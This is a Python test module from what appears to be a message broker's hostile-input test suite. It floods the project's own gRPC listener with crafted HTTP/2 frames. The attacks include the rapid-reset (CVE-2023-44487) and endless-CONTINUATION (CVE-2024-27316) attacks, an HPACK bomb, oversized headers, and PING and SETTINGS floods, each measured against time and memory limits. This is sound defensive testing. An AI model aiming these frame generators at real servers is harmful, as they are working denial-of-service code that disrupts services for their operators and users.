"""Attacks on the gRPC listener with HTTP/2 frames that carry no request: resets, headers, settings, pings."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import AsyncIterator, Callable, Iterator
from itertools import count
from typing import Final

from tests.hostile.attacks import MAX_MEMORY, MAX_WAIT, Attack, Send
from tests.hostile.http2 import (
    CONTINUATION,
    END_HEADERS,
    HEADERS,
    LARGEST_FRAME,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    frame,
    literal,
    request_headers,
)
from tests.testkit.brokers import Cluster

_PUBLISH: Final = "/sharebroker.gateway.v1.ProduceService/Publish"
_CONSUME: Final = "/sharebroker.gateway.v1.ShareService/Consume"
_INITIAL_WINDOW_SIZE: Final = 4
_CANCEL: Final = (8).to_bytes(4)
_HEADERS_MAX_WAIT: Final = 60.0
"""Seconds. gRPC reads headers beyond the limit on the threads that serve all connections.

It took 21 s for indexed fields, 5 s for headers of 2 MB."""

_HEADERS_MAX_MEMORY: Final = 4 << 30
"""Bytes. The server used 2.2 GiB for indexed fields, 1.9 GiB for headers of 2 MB."""

_PAUSE: Final = 0.05
"""Seconds before a client connects again."""

Frames = Callable[[], Iterator[bytes]]
"""What a client sends on one connection, in portions, until the server closes it."""


def resets(method: str) -> Frames:
    """Begins calls and cancels each at once (CVE-2023-44487)."""
    headers = request_headers(method)

    def frames() -> Iterator[bytes]:
        for first in count(1, 200):
            streams = range(first, first + 200, 2)
            yield b"".join(
                frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, _CANCEL)
                for stream in streams
            )

    return frames


def headers(size: int) -> Frames:
    """Begins calls with headers of about `size` bytes, in as many frames as they need."""
    fields = b"".join(literal(f"x-{n}", "v" * 100) for n in range(size // 106))
    block = request_headers(_PUBLISH) + fields
    parts = [block[at : at + LARGEST_FRAME] for at in range(0, len(block), LARGEST_FRAME)]

    def frames() -> Iterator[bytes]:
        for stream in count(1, 2):
            for number, part in enumerate(parts):
                last = END_HEADERS if number == len(parts) - 1 else 0
                yield frame(CONTINUATION if number else HEADERS, last, stream, part)

    return frames


def _endless_headers() -> Iterator[bytes]:
    """Begins one call whose headers do not end (CVE-2024-27316)."""
    yield frame(HEADERS, 0, 1, request_headers(_PUBLISH))
    part = frame(CONTINUATION, 0, 1, literal("x-field", "v" * 100) * 100)
    while True:
        yield part * 10


def _indexed_headers() -> Iterator[bytes]:
    """Repeats a large field of the dynamic table: a byte stands for 4,000 (an HPACK bomb)."""
    stored = b"\x40" + bytes((1,)) + b"x" + b"\x7f" + _varint(3900 - 127) + b"v" * 3900
    for stream in count(1, 2):
        block = request_headers(_PUBLISH) + (stored if stream == 1 else b"") + b"\xbe" * 15_000
        yield frame(HEADERS, END_HEADERS, stream, block[:LARGEST_FRAME])


def _varint(number: int) -> bytes:
    """Returns the continuation of an integer (RFC 7541, section 5.1)."""
    result = bytearray()
    while number >= 128:
        result.append(number % 128 + 128)
        number //= 128
    return bytes((*result, number))


def repeated(portion: bytes) -> Frames:
    """Sends the same frames again and again."""

    def frames() -> Iterator[bytes]:
        while True:
            yield portion

    return frames


@contextlib.asynccontextmanager
async def _drained(reader: asyncio.StreamReader) -> AsyncIterator[asyncio.Task[None]]:
    """Reads and ignores what the server sends; the task ends when the server closes the connection."""

    async def read() -> None:
        while await reader.read(65_536):
            pass

    reading = asyncio.create_task(read())
    try:
        yield reading
    finally:
        reading.cancel()
        await asyncio.gather(reading, return_exceptions=True)


async def _connection(address: str, frames: Frames, *, reads: bool) -> None:
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port), limit=65_536)
    try:
        writer.write(PREFACE + frame(SETTINGS, 0, 0))
        async with _drained(reader) if reads else contextlib.nullcontext() as closed:
            for portion in frames():
                writer.write(portion)
                await writer.drain()
                await asyncio.sleep(0)
                if closed is not None and closed.done():
                    return
    finally:
        writer.transport.abort()


def frame_attack(
    name: str,
    frames: Frames,
    connections: int,
    *,
    reads: bool = True,
    max_wait: float = MAX_WAIT,
    max_memory: int = MAX_MEMORY,
    cancels: bool = False,
) -> Attack:
    """Returns an attack of clients that send frames, and connect again when the server disconnects them."""

    async def prepare(cluster: Cluster) -> Send:
        async def client() -> None:
            while True:
                with contextlib.suppress(OSError):
                    await _connection(cluster.address, frames, reads=reads)
                await asyncio.sleep(_PAUSE)

        async def send(seconds: float) -> None:
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(seconds):
                    await asyncio.gather(*(client() for _ in range(connections)))

        return send

    return Attack(name, prepare, max_wait, max_memory, cancels)


def frame_attacks() -> Iterator[Attack]:
    """Yields the attacks."""
    yield frame_attack("calls that are reset at once, unary", resets(_PUBLISH), 4, cancels=True)
    yield frame_attack("calls that are reset at once, streams", resets(_CONSUME), 4, cancels=True)
    for name, frames in (
        ("headers of 30 KB", headers(30_000)),
        ("headers of 2 MB", headers(2_000_000)),
        ("headers without an end", _endless_headers),
        ("headers of indexed fields, 60 MB a call", _indexed_headers),
    ):
        yield frame_attack(
            name, frames, 4, max_wait=_HEADERS_MAX_WAIT, max_memory=_HEADERS_MAX_MEMORY, cancels=True
        )
    ping = frame(PING, 0, 0, bytes(8))
    settings = frame(SETTINGS, 0, 0, _INITIAL_WINDOW_SIZE.to_bytes(2) + (65_535).to_bytes(4))
    yield frame_attack("pings", repeated(ping * 100), 4)
    yield frame_attack("pings whose responses are not read", repeated(ping * 100), 4, reads=False)
    yield frame_attack("settings", repeated(settings * 100), 4)
    yield frame_attack("settings whose responses are not read", repeated(settings * 100), 4, reads=False)
